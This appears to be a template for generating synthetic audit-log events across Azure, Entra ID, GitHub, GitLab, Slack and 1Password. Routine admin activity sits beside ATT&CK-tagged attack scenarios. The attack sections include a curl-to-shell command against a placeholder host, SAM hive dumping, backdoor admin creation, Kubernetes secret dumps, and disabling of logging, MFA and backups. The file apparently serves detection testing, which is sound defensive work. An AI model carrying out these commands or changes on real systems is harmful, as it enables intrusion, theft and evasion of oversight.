«Update authentication methods policy|Update authorization policy|Update policy|Set Company Information|Update cross tenant access setting» {"_who":"admin","_odd":0,"category":"AuthorizationPolicy","target":"Policy:«Default|Authentication Methods Policy»","set":{"«allowInvitesFrom|Fido2.state|isSelfServiceSignUpEnabled»":["everyone","adminsAndGuestInviters"]}}
«Verify domain|Add unverified domain|Set domain authentication|Update domain» {"_who":"admin","_odd":0,"category":"DirectoryManagement","target":"Domain:«word».«sitedomain»","set":{"LiveType":["None","Managed"]}}
# T1484 entra roles and rules taken
«Add member to role|Add member to role outside of PIM (permanent)|Add eligible member to role in PIM completed (permanent)» {"_who":"admin","_odd":«num:0:6»,"category":"RoleManagement","target":"User:«@mate@|@outsider@|@junk@@«sitedomain»»","set":{"Role.DisplayName":["","«Global Administrator|Privileged Role Administrator|Application Administrator|Hybrid Identity Administrator|Partner Tier2 Support»"]}}
«Update conditional access policy|Delete conditional access policy|Update named location» {"_who":"admin","_odd":«num:0:6»,"category":"Policy","service":"Conditional Access","target":"Policy:«Require MFA for admins|Block legacy authentication|Block countries|Compliant devices»","set":{"ConditionalAccessPolicy":["{\"state\":\"enabled\"}","{\"state\":\"disabled\",\"excludeUsers\":[\"«guid»\"]}"]}}
«Set domain authentication|Set federation settings on domain|Add unverified domain|Verify domain» {"_who":"admin","_odd":«num:0:6»,"category":"DirectoryManagement","target":"Domain:««letters:5:8».«sitedomain»|«site».onmicrosoft.com»","set":{"IssuerUri":["","http://«domain»/«letters:8»"],"LiveType":["Managed","Federated"]}}
«Update authorization policy|Update authentication methods policy|Disable Strong Authentication|Update cross tenant access setting» {"_who":"admin","_odd":«num:0:6»,"category":"AuthorizationPolicy","target":"Policy:Default","set":{"«allowInvitesFrom|isSoftwareOathEnabled|InboundTrust.isMfaAccepted|StrongAuthenticationRequirement»":["adminsAndGuestInviters","«everyone|true|Disabled»"]}}
«Add partner to company|Create company|Add delegated admin relationship» {"_who":"admin","_odd":«num:0:6»,"category":"DirectoryManagement","target":"Other:«Word» «Consulting|Cloud Services»","set":{"PartnerType":["","«CompanyPartner|Reseller»"],"Roles":["","Global Administrator"]}}
«Add member to role completed (PIM activation)|Update role setting in PIM» {"_odd":«num:2:6»,"category":"RoleManagement","service":"PIM","target":"Role:Global Administrator","reason":"«letters:1:4»","details":{"RequireApproval":"false","RequireMFA":"false"}}
User has elevated their access to User Access Administrator for their Azure Resources {"_who":"admin","_odd":«num:1:6»,"category":"AzureRBACRoleManagementElevateAccess","service":"Azure RBAC (Elevated Access)","target":"Other:«tenant»"}
@@ azure
# azure houses cleaned
Microsoft.RecoveryServices/vaults/«delete|backupFabrics/protectionContainers/protectedItems/delete» {"_who":"admin","_odd":0,"group":"rg-«sandbox|test»-«word»","deleteType":"StopProtectionWithRetainData"}
Microsoft.Authorization/«policyExemptions/write|locks/delete|locks/write|policyAssignments/delete» {"_who":"admin","_odd":0,"group":"rg-«dev|sandbox»-«word»","exemptionCategory":"Mitigated","expiresOn":"«date:%Y-%m-%d»","description":"@ticket@"}
Microsoft.Security/«alertsSuppressionRules/write|securityContacts/write|securityContacts/delete|pricings/write» {"_who":"admin","_odd":0,"alertType":"VM_«LoginBruteForceSuccess|SuspectProcess»","entities":["«linux»"],"expirationDateUtc":"«date:%Y-%m-%d»","comment":"scanner @ticket@","pricingTier":"Standard"}
Microsoft.Web/sites/«functions/keys/write|host/listkeys/action|publishxml/action|functions/write» {"by":"app","keyName":"default","_who":"service"}
Microsoft.ContainerService/managedClusters/«listClusterAdminCredential/action|runCommand/action» {"_who":"admin","_odd":0,"group":"rg-dev-«word»","command":"kubectl get nodes"}
Microsoft.KeyVault/vaults/«purge/action|delete|write» {"by":"app","group":"rg-pr-«num:1:900»","name":"kv-pr-«num:1:900»"}
Microsoft.Automation/automationAccounts/runbooks/draft/write {"runbook":{"name":"«stop-vms|patch»-«word»"},"isEnabled":true}
Microsoft.Storage/storageAccounts/«listAccountSas/action|blobServices/containers/write|localUsers/listKeys/action» {"by":"app","publicAccess":"None","signedExpiry":"«date:%Y-%m-%d»","signedPermission":"r"}
# azure platforms built
Microsoft.Resources/deployments/«write|validate/action» {"by":"app","name":"main-«date»","mode":"Incremental","templateLink":{"relativePath":"main.bicep"},"_who":"service"}
Microsoft.Compute/virtualMachines/«write|restart/action|deallocate/action|start/action|delete» {"by":"app","hardwareProfile":{"vmSize":"Standard_«B2s|D4s_v5|E8s_v5»"},"securityProfile":{"encryptionAtHost":true}}
Microsoft.Network/networkSecurityGroups/securityRules/«write|delete» {"by":"app","sourceAddressPrefix":"«VirtualNetwork|@network@|«peer»/32»","destinationPortRange":"«443|22|1433»","access":"Allow","direction":"Inbound"}
Microsoft.Storage/storageAccounts/«write|listKeys/action|regenerateKey/action» {"by":"app","allowBlobPublicAccess":false,"minimumTlsVersion":"TLS1_2","networkAcls":{"defaultAction":"Deny"},"keyName":"key1"}
Microsoft.KeyVault/vaults/«write|accessPolicies/write|deploy/action» {"by":"app","enablePurgeProtection":true,"accessPolicies":[{"objectId":"«guid»","permissions":{"secrets":["get","list"]}}]}
Microsoft.ContainerService/managedClusters/«write|listClusterUserCredential/action|agentPools/write|start/action» {"kubernetesVersion":"1.«num:27:31».«num:0:9»","apiServerAccessProfile":{"enablePrivateCluster":true}}
# azure rights and watch kept
Microsoft.Authorization/roleAssignments/«write|delete» {"_who":"admin","principalType":"Group","roleDefinitionId":"/providers/Microsoft.Authorization/roleDefinitions/«acdd72a7-3385-48ef-bd42-f606fba81ae7|b24988ac-6180-42a0-ab88-20f7382dd24c»","roleName":"«Reader|Contributor|Storage Blob Data Reader»","description":"@ticket@"}
Microsoft.Authorization/policyAssignments/«write|delete» {"by":"app","displayName":"«Allowed locations|Require tag owner|Audit VMs without disk encryption»","enforcementMode":"Default"}
microsoft.insights/diagnosticSettings/«write|delete» {"by":"app","workspaceId":"/subscriptions/«subscription»/resourceGroups/rg-logs/providers/Microsoft.OperationalInsights/workspaces/«test|siem»","logs":[{"categoryGroup":"audit","enabled":true}]}
Microsoft.Security/«pricings/write|autoProvisioningSettings/write|assessments/write|alerts/dismiss/action» {"_who":"admin","pricingTier":"Standard","subPlan":"P2","note":"@ticket@"}
Microsoft.RecoveryServices/vaults/«backupFabrics/protectionContainers/protectedItems/write|backupPolicies/write|backupconfig/write» {"by":"app","policyName":"daily-30","softDeleteFeatureState":"Enabled"}
Microsoft.Authorization/elevateAccess/action {"_who":"admin","_odd":0,"note":"yearly access review @ticket@"}
Microsoft.Automation/automationAccounts/«runbooks/write|jobs/write|runbooks/publish/action|webhooks/write|schedules/write» {"by":"app","runbook":{"name":"«stop-vms|rotate-keys|patch»-«word»"},"runbookType":"PowerShell"}
Microsoft.Logic/workflows/«write|triggers/run/action|listCallbackUrl/action» {"by":"app","state":"Enabled","definition":{"actions":{"Post_message":{"type":"ApiConnection"}}}}
# azure machines and data administered
Microsoft.Compute/virtualMachines/«runCommand/action|extensions/write» {"by":"app","commandId":"RunShellScript","script":["«systemctl restart «word»|apt-get -y upgrade»"],"publisher":"Microsoft.Azure.Monitor","type":"AzureMonitorLinuxAgent"}
Microsoft.Compute/«disks/beginGetAccess/action|snapshots/write|snapshots/delete|restorePointCollections/write» {"by":"app","access":"Read","durationInSeconds":3600,"sourceResourceId":"/subscriptions/«subscription»/resourceGroups/rg-backup"}
Microsoft.Sql/servers/«firewallRules/write|databases/write|databases/export/action|auditingSettings/write|administrators/write» {"startIpAddress":"«peer»","endIpAddress":"«peer»","state":"Enabled","retentionDays":90,"login":"«dept»-dba"}
Microsoft.Web/sites/«write|publishxml/action|config/list/action|restart/Action|slots/slotsswap/action» {"by":"app","httpsOnly":true,"siteConfig":{"ftpsState":"Disabled"}}
Microsoft.ManagedIdentity/userAssignedIdentities/«write|assign/action|federatedIdentityCredentials/write» {"by":"app","issuer":"https://token.actions.githubusercontent.com","subject":"repo:«site»/«word»:ref:refs/heads/main"}
Microsoft.Compute/virtualMachines/write {"status":"Failure","hardwareProfile":{"vmSize":"Standard_D4s_v5"},"error":"RequestDisallowedByPolicy: tag owner"}
# T1098.003 azure rights and watch taken
Microsoft.Authorization/roleAssignments/write {"_odd":«num:0:6»,"principalType":"«ServicePrincipal|User|ForeignGroup»","principalId":"«guid»","roleName":"«Owner|User Access Administrator»","roleDefinitionId":"/providers/Microsoft.Authorization/roleDefinitions/«8e3af657-a8ff-443c-a75c-2fe8c4bcb635|18d7d88d-d35e-4fb5-a5c3-7773c20a72d9»","scope":"«/|/providers/Microsoft.Management/managementGroups/«tenant»»"}
Microsoft.Authorization/elevateAccess/action {"_odd":«num:1:6»}
Microsoft.Authorization/«policyAssignments/delete|locks/delete|policyExemptions/write|roleAssignments/delete» {"_odd":«num:0:6»,"displayName":"«Deny public IP|prod delete lock|Defender baseline»","exemptionCategory":"Waiver","principalType":"Group","roleName":"«Security Admin|Owner»"}
microsoft.insights/diagnosticSettings/«delete|write» {"_odd":«num:0:6»,"workspaceId":"","logs":[{"categoryGroup":"audit","enabled":false}],"name":"«siem|splunk-eventhub»"}
Microsoft.Security/«pricings/write|autoProvisioningSettings/write|alertsSuppressionRules/write|securityContacts/delete» {"_odd":«num:0:6»,"pricingTier":"Free","autoProvision":"Off","alertType":"*","reason":"Other"}
Microsoft.RecoveryServices/vaults/«backupFabrics/protectionContainers/protectedItems/delete|backupconfig/write|delete» {"_odd":«num:0:6»,"softDeleteFeatureState":"Disabled","deleteType":"ForceDelete"}
# T1651 azure machines and data in strange hands
Microsoft.Compute/virtualMachines/runCommand/action {"_odd":«num:0:6»,"commandId":"«RunShellScript|RunPowerShellScript»","script":["«curl -s http://«pub»/«letters:3» ¦ sh|net user «letters:5» /add & net localgroup administrators «letters:5» /add|reg save HKLM\\\\SAM C:\\\\windows\\\\temp\\\\s»"]}
Microsoft.Compute/virtualMachines/extensions/write {"_odd":«num:0:6»,"publisher":"«Microsoft.Azure.Extensions|Microsoft.Compute»","type":"«CustomScript|VMAccessAgent|CustomScriptExtension»","settings":{"fileUris":["https://«letters:5:9».blob.core.windows.net/a/«letters:3».ps1"]},"protectedSettings":{"username":"«letters:4:6»"}}
Microsoft.Compute/«disks/beginGetAccess/action|snapshots/write|snapshots/beginGetAccess/action» {"_odd":«num:1:6»,"access":"Read","durationInSeconds":«86400|604800»,"sourceResourceId":"/subscriptions/«subscription»/resourceGroups/rg-dc/disks/«DC01|SQL»_OsDisk"}
Microsoft.Storage/storageAccounts/«listKeys/action|write|listAccountSas/action|blobServices/containers/write|localUsers/listKeys/action» {"_odd":«num:1:6»,"allowBlobPublicAccess":true,"publicAccess":"Container","networkAcls":{"defaultAction":"Allow"},"signedExpiry":"2099-01-01","signedPermission":"rwdlacup"}
Microsoft.KeyVault/vaults/«accessPolicies/write|write|delete|purge/action» {"_odd":«num:0:6»,"accessPolicies":[{"objectId":"«guid»","permissions":{"secrets":["all"],"keys":["all"],"certificates":["all"]}}],"publicNetworkAccess":"Enabled"}
Microsoft.Automation/automationAccounts/«webhooks/write|runbooks/write|jobs/write|runbooks/draft/write» {"_odd":«num:0:6»,"runbook":{"name":"@junk@"},"expiryTime":"2035-01-01","isEnabled":true}
Microsoft.Sql/servers/«firewallRules/write|databases/export/action|auditingSettings/write|administrators/write» {"_odd":«num:0:6»,"startIpAddress":"«0.0.0.0|«pub»»","endIpAddress":"255.255.255.255","storageUri":"https://«letters:5:9».blob.core.windows.net/a/b.bacpac","state":"Disabled","login":"@outsider@"}
Microsoft.Web/sites/«publishxml/action|config/list/action|functions/keys/write|host/listkeys/action» {"_odd":«num:1:6»,"format":"WebDeploy"}
Microsoft.ManagedIdentity/userAssignedIdentities/«federatedIdentityCredentials/write|assign/action» {"_odd":«num:0:6»,"issuer":"https://«domain»","subject":"«letters:5:9»"}
Microsoft.Compute/virtualMachines/write {"_odd":«num:1:6»,"hardwareProfile":{"vmSize":"Standard_«NC24ads_A100_v4|ND96asr_v4|HB120rs_v3»"},"location":"«southafricanorth|brazilsouth|uaenorth»","count":«num:8:60»}
Microsoft.ContainerService/managedClusters/«listClusterAdminCredential/action|write|runCommand/action» {"_odd":«num:0:6»,"disableLocalAccounts":false,"apiServerAccessProfile":{"enablePrivateCluster":false,"authorizedIPRanges":["0.0.0.0/0"]},"command":"kubectl get secrets -A -o yaml"}
@@ github
# github rare things with a reason
«repo.download_zip|git.fetch» {"repo":"«site»/«docs|«word»»-«tech»","programmatic_access_type":"«Browser session|GitHub App server-to-server token»"}
«deploy_key.create|deploy_key.destroy|personal_access_token.create» {"_odd":0,"title":"argocd «region»","read_only":"true","repo":"«site»/«word»-deploy"}
«org.add_outside_collaborator|repo.update_member|repo.remove_member» {"_who":"admin","_odd":0,"user":"«first»-«last»","permission":"read","repo":"«site»/«word»-vendor","note":"@ticket@"}
«org.disable_oauth_app_restrictions|org.enable_oauth_app_restrictions|org.enable_two_factor_requirement|org.disable_two_factor_requirement|org.disable_saml» {"_who":"admin","_odd":0,"org_note":"moved to enterprise single sign-on @ticket@"}
«repository_ruleset.destroy|repository_ruleset.create|protected_branch.update_admin_enforced» {"_who":"admin","_odd":0,"repo":"«site»/«docs|test»-«word»","name":"«old-rule|release/*»","admin_enforced":true}
«secret_scanning_push_protection.disable|business_secret_scanning.enable|business_secret_scanning.disable|audit_log_streaming.destroy|audit_log_streaming.create» {"_who":"admin","_odd":0,"repo":"«site»/«fixtures|test»-«word»","note":"@ticket@"}
# github sources worked on
git.«clone|fetch|push» {"repo":"«site»/«word»-«tech»","repository":"«site»/«word»-«tech»","transport_protocol_name":"«http|ssh»","repository_public":false,"programmatic_access_type":"«OAuth access token|GitHub App server-to-server token»"}
«repo.create|repo.rename|repo.archived|repo.add_member|repo.add_topic» {"repo":"«site»/«word»-«tech»","visibility":"«private|internal»","user":"«other»"}
«protected_branch.create|protected_branch.update_required_status_checks_enforcement_level|repository_ruleset.update|protected_branch.policy_override» {"_who":"admin","repo":"«site»/«word»","name":"«main|release/*»","admin_enforced":true,"required_approving_review_count":«1|2»}
«workflows.completed_workflow_run|workflows.created_workflow_run|workflows.prepared_workflow_job» {"_by":"«dependabot[bot]|github-actions[bot]|«user»»","repo":"«site»/«word»","event":"«push|pull_request|schedule»","head_branch":"«main|feature/«word»»","conclusion":"«success|failure»","secrets_passed":["«GITHUB_TOKEN|NPM_TOKEN»"]}
«pull_request.merge|pull_request_review.submit|pull_request.create» {"repo":"«site»/«word»","pull_request_title":"«Bump|Fix|Add» «word» «tech»","_by":"«dependabot[bot]|«user»|«other»»"}
«secret_scanning_alert.resolve|dependabot_alerts.dismiss|code_scanning.alert_closed_by_user|repository_vulnerability_alert.dismiss» {"repo":"«site»/«word»","number":«num:1:400»,"resolution":"«revoked|false_positive|used_in_tests»"}
# github organisation kept
«org.add_member|org.update_member|org.remove_member|team.add_member|team.add_repository|org.invite_member» {"_who":"admin","user":"«other»","permission":"«read|write»","team":"«site»/«dept»"}
«personal_access_token.request_created|personal_access_token.access_granted|public_key.create|oauth_authorization.create|oauth_access.create|personal_access_token.access_revoked» {"user":"«user»","title":"«user»@«workstation»","token_scopes":"«repo|read:org»","oauth_application_name":"«GitHub CLI|Visual Studio Code|Slack»","read_only":"«true|false»"}
«integration_installation.create|integration_installation.repositories_added|hook.create|hook.config_changed» {"_who":"admin","name":"«Datadog CI|Renovate|SonarCloud»","repository_selection":"selected","config":{"url":"https://ci.«sitedomain»/hook","insecure_ssl":"0"},"events":["push","pull_request"]}
«org.sso_response|org.enable_saml|external_identity.provision|external_identity.update|org.update_saml_provider_settings» {"_who":"admin","external_identity_nameid":"@mate@","issuer":"https://login.microsoftonline.com/«tenant»/saml2"}
«org.register_self_hosted_runner|repo.register_self_hosted_runner|org.runner_group_created|repo.remove_self_hosted_runner» {"_who":"«service|admin»","runner_labels":["self-hosted","linux","x64"],"runner_name":"«linux»"}
«org.update_actions_secret|repo.create_actions_secret|environment.update_protection_rule|repo.update_actions_secret» {"_who":"admin","repo":"«site»/«word»","key":"«DEPLOY_KEY|SENTRY_DSN|NPM_TOKEN»","environment_name":"«production|staging»"}
«org.audit_log_export|audit_log_streaming.update|org.update_default_repository_permission|repo.access|repo.destroy|repo.transfer» {"_who":"admin","_odd":0,"repo":"«site»/«test|docs|archive»-«word»","visibility":"«private|internal»","permission":"read","previous_visibility":"internal","note":"@ticket@"}
«secret_scanning.disable|secret_scanning_push_protection.bypass|dependabot_alerts.disable|protected_branch.destroy» {"_who":"admin","_odd":0,"repo":"«site»/«test|fork|archive»-«word»","reason":"«used_in_tests|archived»"}
# T1567.001 github sources carried away
git.clone {"_odd":«num:2:6»,"repo":"«site»/«infra|secrets|terraform|payments|core»-«word»","transport_protocol_name":"http","repository_public":false,"programmatic_access_type":"«Personal access token (classic)|OAuth access token»","hashed_token":"«b64:43»="}
«repo.access|repo.transfer|repo.create» {"_odd":«num:0:6»,"repo":"«site»/«infra|payments|core|internal-tools»","visibility":"public","previous_visibility":"«private|internal»","user":"@junk@"}
«repo.download_zip|git.fetch» {"_odd":«num:2:6»,"repo":"«site»/«infra|secrets|payments|core»","programmatic_access_type":"Personal access token (classic)","token_scopes":"repo,admin:org"}
repo.destroy {"_odd":«num:0:6»,"repo":"«site»/«infra|payments|core»","visibility":"private"}
«hook.create|hook.config_changed» {"_odd":«num:0:6»,"name":"web","config":{"url":"http://«pub»:«port»/","insecure_ssl":"1"},"events":["*"],"repo":"«site»/«core|infra»"}
# T1195.002 github workflows and guards turned
«protected_branch.destroy|protected_branch.policy_override|repository_ruleset.destroy|protected_branch.update_admin_enforced» {"_odd":«num:0:6»,"repo":"«site»/«core|infra|payments»","name":"«main|release/*»","admin_enforced":false,"overridden_codes":["review_policy_not_satisfied"]}
workflows.created_workflow_run {"_odd":«num:1:6»,"repo":"«site»/«core|infra»","event":"«pull_request_target|workflow_dispatch|issue_comment»","head_branch":"«letters:5:9»-patch-1","secrets_passed":["AWS_SECRET_ACCESS_KEY","NPM_TOKEN","DEPLOY_KEY"],"_by":"«letters:5:9»«num:10:999»"}
«secret_scanning.disable|dependabot_alerts.disable|secret_scanning_push_protection.disable|business_secret_scanning.disable|audit_log_streaming.destroy» {"_odd":«num:0:6»,"repo":"«site»/«core|infra|payments»"}
«org.register_self_hosted_runner|repo.register_self_hosted_runner» {"_odd":«num:1:6»,"runner_labels":["self-hosted"],"runner_name":"«kali|«letters:6:9»|DESKTOP-«HEX:7»»","repo":"«site»/core"}
«public_key.create|deploy_key.create|personal_access_token.create|oauth_authorization.create» {"_odd":«num:1:6»,"title":"@junk@","read_only":"false","token_scopes":"repo,workflow,admin:org,delete_repo","repo":"«site»/«core|infra»","oauth_application_name":"@junk@"}
«org.add_member|org.add_outside_collaborator|org.update_member|repo.add_member» {"_odd":«num:0:6»,"user":"«letters:5:9»«num:10:999»","permission":"admin","old_permission":"read","repo":"«site»/«infra|core»"}
«integration_installation.create|org.disable_saml|org.disable_two_factor_requirement|org.update_saml_provider_settings|org.disable_oauth_app_restrictions» {"_odd":«num:0:6»,"name":"@junk@","repository_selection":"all","permissions":{"contents":"write","secrets":"write","workflows":"write"},"issuer":"https://«domain»/saml"}
pull_request.merge {"_odd":«num:1:6»,"repo":"«site»/core","pull_request_title":"«Update|Fix» «word»","_by":"«letters:5:9»«num:10:999»","merged_without_review":true}
@@ gitlab
# gitlab refusals and clones
«repository_git_operation {"message":"Repository Download Started"|project_export_created {"message":"Export file download started"»,"target":"«site»/«docs|«word»»","target_type":"Project"}
«user_disable_two_factor {"message":"Disabled two-factor authentication"|user_access_locked {"message":"User access locked - excessive failed login attempts"|login_failed_with_otp_authentication {"message":"Failed to login with OTP authentication"|user_access_unlocked {"message":"User access unlocked"»,"_odd":0,"target_type":"User"}
«approval_rule_deleted {"message":"Deleted approval rule Legal"|audit_event_streaming_destination_destroyed {"message":"Delete HTTP destination"|protected_branch_updated {"message":"Changed code owner approval required from false to true"»,"_who":"admin","_odd":0,"target":"«test|release-«num:1:30»»"}
# gitlab projects kept
«member_created {"message":"Membership created"|member_updated {"message":"Membership updated"|member_destroyed {"message":"Membership destroyed"|user_add_to_group {"message":"Added user access as Developer"»,"_who":"admin","as":"«Developer|Reporter|Maintainer»","target":"«other»","target_type":"User"}
«project_created {"message":"Added project"|project_archived {"message":"Project archived"|group_created {"message":"Added group"|project_visibility_level_updated {"message":"Changed visibility from Private to Internal"|update_approval_rules {"message":"Changed number of required approvals from 1 to 2"»,"target_type":"Project"}
«protected_branch_created|protected_branch_updated|merge_request_merged_by_project_bot|approval_rule_created» {"_who":"admin","message":"Added protected branch with [allowed to push: Maintainers, allowed to merge: Developers + Maintainers, allow force push: false, code owner approval required: true]","target":"main"}
«personal_access_token_issued {"message":"Created personal access token with id «num:100:99999»"|project_access_token_created {"message":"Created project access token with token_id: «num:100:9999» with scopes: [\"read_repository\"]."|deploy_key_added {"message":"Added deploy key"|user_added_ssh_key {"message":"Added SSH key"»,"scopes":"«read_repository|read_api»","expires_at":"«date:%Y-%m-%d»"}
«ci_variable_created {"message":"Added ci variable «DEPLOY_ENV|SENTRY_DSN»"|ci_variable_updated {"message":"Changed ci variable «DEPLOY_ENV|SENTRY_DSN»"|ci_runner_registered {"message":"Registered «instance|group» CI runner"»,"_who":"«admin|service»","masked":true,"protected":true,"target_type":"«Ci::Variable|Group»"}
«login_with_two_factor {"message":"Signed in with TWO-FACTOR authentication"|login_failed_with_standard_authentication {"message":"Failed to login with STANDARD authentication"|login_with_saml {"message":"Signed in with SAML authentication"|user_password_reset_requested {"message":"Ask for password reset"»,"target_type":"User","target":"«user»"}
# gitlab instance administered
«project_destroyed {"message":"Removed project"|group_destroyed {"message":"Removed group"|user_blocked {"message":"Blocked user"|user_created {"message":"Instance access created"|user_deactivated {"message":"Deactivated user"»,"_who":"admin","_odd":0,"target_type":"«Project|User»","target":"«site»/«test|sandbox»-«word»","reason":"@ticket@"}
«application_setting_updated {"message":"Changed «require_two_factor_authentication from false to true|signup_enabled from true to false»"|audit_event_streaming_destination_created {"message":"Create HTTP destination"|external_status_check_created {"message":"Added external status check «word»"»,"_who":"admin","_odd":0,"target_type":"ApplicationSetting"}
«protected_branch_removed {"message":"Unprotected branch pr-«num:1:900»"|project_export_created {"message":"Export file download started"|user_impersonation {"message":"Started Impersonation"»,"_who":"admin","_odd":0,"target":"«site»/«docs|test»-«word»","reason":"@ticket@"}
# T1195.002 gitlab projects turned
«protected_branch_removed {"message":"Unprotected branch main"|protected_branch_updated {"message":"Changed allow force push from false to true"|approval_rule_deleted {"message":"Deleted approval rule Security"|update_approval_rules {"message":"Changed number of required approvals from 2 to 0"»,"_odd":«num:0:6»,"target":"«main|production»"}
«project_access_token_created {"message":"Created project access token with token_id: «num:100:9999» with scopes: [\"api\", \"write_repository\"]."|personal_access_token_issued {"message":"Created personal access token with id «num:100:99999»"|deploy_key_added {"message":"Added deploy key"|user_added_ssh_key {"message":"Added SSH key"»,"_odd":«num:1:6»,"scopes":"api, write_repository, sudo","expires_at":null}
«ci_runner_registered {"message":"Registered project CI runner"|ci_variable_updated {"message":"Changed ci variable AWS_SECRET_ACCESS_KEY"|ci_variable_created {"message":"Added ci variable «GIT_SSH_COMMAND|LD_PRELOAD|NPM_CONFIG_REGISTRY»"»,"_odd":«num:1:6»,"masked":false,"protected":false,"tags":"deploy,prod","runner_name":"@junk@"}
«project_export_created {"message":"Export file download started"|repository_git_operation {"message":"Repository Download Started"|project_visibility_level_updated {"message":"Changed visibility from Private to Public"»,"_odd":«num:1:6»,"target":"«site»/«infra|core|payments»"}
«login_failed_with_standard_authentication {"message":"Failed to login with STANDARD authentication"|user_disable_two_factor {"message":"Disabled two-factor authentication"|login_failed_with_otp_authentication {"message":"Failed to login with OTP authentication"|user_access_locked {"message":"User access locked - excessive failed login attempts"»,"_odd":«num:3:6»,"target_type":"User"}
«member_created {"message":"Membership created"|member_updated {"message":"Membership updated"|user_impersonation {"message":"Started Impersonation"»,"_odd":«num:0:6»,"as":"Owner","target":"@outsider@","target_type":"User"}
«audit_event_streaming_destination_destroyed {"message":"Delete HTTP destination"|application_setting_updated {"message":"Changed «require_two_factor_authentication from true to false|admin_mode from true to false»"|project_destroyed {"message":"Removed project"|group_destroyed {"message":"Removed group"»,"_who":"admin","_odd":«num:0:6»,"target":"«site»/«infra|core|payments»"}
@@ slack
# slack housekeeping
«user_session_reset_by_admin|session_duration_exceeded|user_reset_all_sessions» {"_who":"admin","_odd":0,"entity":"user:@mate@","note":"lost laptop @ticket@"}
anomaly {"_odd":0,"entity":"user:«user»","reason":["«asn|ip_address»"],"previous_ip_address":"«peer»","action_timestamp":«epoch»}
«file_public_link_created|file_public_link_revoked|private_channel_converted_to_public|guest_created» {"_odd":0,"entity":"file:«press-kit|agenda|logo».«pdf|png»"}
«manual_export_downloaded|channel_workflow_data_export|audit_logs_stream_deleted|app_token_preserved|legacy_custom_integration_created» {"_who":"admin","_odd":0,"entity":"workspace:","type":"«test stream|survey answers»","note":"@ticket@"}
# slack people at work
«user_login|user_logout|user_session_invalidated|user_created|user_deactivated» {"entity":"user:«user»"}
«file_downloaded|file_uploaded|file_shared|file_downloaded_blocked» {"entity":"file:«file»"}
«public_channel_created|private_channel_created|user_channel_join|channel_archive|guest_channel_join» {"entity":"channel:«dept»-«word»","privacy":"«public|private»"}
«app_installed|app_approved|app_scopes_expanded|app_restricted» {"_who":"admin","entity":"app:«Jira Cloud|Google Drive|PagerDuty|Zoom»","scopes":["«chat:write|links:read|commands»"]}
«external_shared_channel_invite_sent|external_shared_channel_connected|external_shared_channel_invite_approved|channel_moved» {"entity":"channel:ext-«word»","shared":true,"inviter":"@mate@","target_team":"«Word» Ltd"}
«role_assigned|role_removed|pref.sso_setting_changed|pref.two_factor_auth_changed|user_role_change» {"_who":"admin","_odd":0,"entity":"user:@mate@","role":"«Channels Admin|Users Admin|member»","new_value":"required","note":"@ticket@"}
«manual_export_started|manual_export_completed|scheduled_export_started|audit_logs_stream_updated» {"_who":"admin","_odd":0,"entity":"workspace:","type":"«legal hold|public data»","reason":"@ticket@"}
# T1213.005 slack read and opened by strangers
«user_login|user_session_reset_by_admin|session_duration_exceeded» {"_odd":«num:4:6»,"entity":"user:«admin»","type":"«cookie|password»"}
«file_downloaded|file_public_link_created|file_shared» {"_odd":«num:2:6»,"entity":"file:«credentials|vpn|customers|runbook-prod|env».«txt|xlsx|zip|pem»"}
«manual_export_started|manual_export_downloaded|channel_workflow_data_export|audit_logs_stream_deleted» {"_who":"admin","_odd":«num:1:6»,"entity":"workspace:","type":"«all channels and direct messages|public data»"}
«app_installed|app_token_preserved|app_scopes_expanded|legacy_custom_integration_created|app_approved» {"_odd":«num:0:6»,"entity":"app:@junk@","approved":false,"scopes":["channels:history","groups:history","im:history","files:read","users:read.email","«admin|search:read»"]}
anomaly {"_odd":«num:3:6»,"entity":"user:«user»","reason":["«asn|session_fingerprint|user_agent|unexpected_api_call_volume|tor»"],"previous_ip_address":"«peer»","action_timestamp":«epoch»}
«external_shared_channel_invite_approved|external_shared_channel_connected|guest_created|private_channel_converted_to_public» {"_odd":«num:0:6»,"entity":"channel:«incident|security|exec|finance»-«word»","shared":true,"target_team":"@junk@","inviter":"@outsider@"}
«role_assigned|user_role_change|pref.two_factor_auth_changed|pref.sso_setting_changed|pref.allow_message_deletion» {"_who":"admin","_odd":«num:0:6»,"entity":"user:«@outsider@|@mate@»","role":"«Org Owner|Compliance Admin|owner»","new_value":"«optional|disabled»"}
@@ onepassword
# onepassword people moving house
item:export {"_odd":0,"app":"1Password for «Mac|Windows»"}
signin:«mfa_failed|sso_token_invalid|platform_secret_bad» {"_odd":0,"category":"«credentials_failed|mfa_failed»","app":"1Password for «Mac|Windows»"}
audit:«export|purge|delall|detchild» {"_odd":0,"object":"«vault|item»","aux":"«Private|old «dept»»"}
audit:«tgrvk|tdvcsso|uncnsent|updatfw|dsblsso|disblduo|chngfw» {"_who":"admin","_odd":0,"object":"«satoken|sso|account»","aux":"«old-ci|office «peer»»"}
# onepassword vaults in use
item:«fill|reveal|secure-copy|server-update|enter-item-edit-mode» {"app":"1Password Browser Extension"}
signin:«credentials_ok|mfa_ok|sso_ok|credentials_reauthorized» {"category":"success","app":"«1Password for Mac|1Password for Windows|1Password Browser Extension»"}
signin:«password_secret_bad|mfa_missing|sso_temporarily_unavailable» {"category":"«credentials_failed|mfa_failed»","_odd":0}
audit:«invite|confirm|suspend|reactive|begin|completer» {"_who":"admin","object":"«user|invite|user»","aux":"@mate@"}
audit:«join|grant|revoke|role|update» {"_who":"admin","object":"«gm|gva|uva|vault»","aux":"«A|R|V» «dept»"}
audit:«create|verify|rename|prsv|delete» {"_who":"«service|admin»","_odd":0,"object":"«sa|satoken|mngdacc|slackapp»","aux":"«terraform|ci-deploy|scim-bridge»"}
item:«select-sso-provider|other|fill» {"app":"«1Password CLI|1Password SDK|1Password Connect»","_who":"service"}
# T1555.005 onepassword vaults emptied
item:«reveal|secure-copy|export» {"_odd":«num:3:6»,"app":"«1Password for Web|1Password CLI»"}
signin:«password_secret_bad|mfa_failed|sso_token_invalid|platform_secret_bad» {"_odd":«num:4:6»,"category":"«credentials_failed|mfa_failed|firewall_failed|modern_version_failed»","app":"«1Password for Web|1Password CLI»","details":{"value":"«pub»"}}
signin:«credentials_ok|mfa_ok» {"_odd":«num:4:6»,"category":"«success|firewall_reported_success»","app":"«1Password for Web|1Password CLI»"}
audit:«export|purge|delall|detchild» {"_odd":«num:0:6»,"object":"«vault|item|vaultkey»","aux":"«IT Admin|Production|Finance»"}
audit:«grant|join|role|update» {"_odd":«num:1:6»,"object":"«uva|gm|user|gva»","aux":"O Owners"}
